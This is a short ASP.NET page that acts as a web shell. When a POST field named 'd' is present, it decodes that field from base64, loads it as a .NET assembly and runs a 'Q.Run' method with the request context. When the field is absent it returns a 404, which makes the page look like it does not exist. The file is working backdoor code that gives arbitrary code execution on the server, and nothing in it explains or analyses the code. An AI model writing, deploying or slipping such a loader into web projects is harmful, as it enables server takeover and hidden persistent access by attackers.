<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (Request.Form["d"] == null)
    {
        Response.StatusCode = 404;
        return;
    }
    Assembly a = Assembly.Load(Convert.FromBase64String(Request.Form["d"]));
    a.GetType("Q").GetMethod("Run").Invoke(null, new object[] { Context });
}
</script>
